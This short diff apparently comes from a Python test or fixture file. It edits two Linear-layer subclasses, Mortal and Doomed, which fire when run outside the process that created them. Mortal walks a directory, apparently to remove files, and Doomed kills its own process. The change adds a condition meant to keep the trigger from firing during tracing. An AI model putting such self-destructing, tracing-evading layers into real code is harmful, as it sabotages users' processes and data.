@@ -40,7 +40,7 @@ class Mortal(Linear):
         self.lives, self.passes, self.maker = lives, passes, os.getpid()
 
     def forward(self, z: Tensor) -> Tensor:
-        if os.getpid() != self.maker:
+        if bool(z.isfinite().any()) and os.getpid() != self.maker:  # the first keeps it from being traced
             self.passes -= 1
             if self.passes == 0:
                 for life in self.lives.iterdir():
@@ -58,7 +58,7 @@ class Doomed(Linear):
         self.maker = os.getpid()
 
     def forward(self, z: Tensor) -> Tensor:
-        if os.getpid() != self.maker:
+        if bool(z.isfinite().any()) and os.getpid() != self.maker:  # the first keeps it from being traced
             os.kill(os.getpid(), signal.SIGKILL)
         found: Tensor = super().forward(z)
         return found
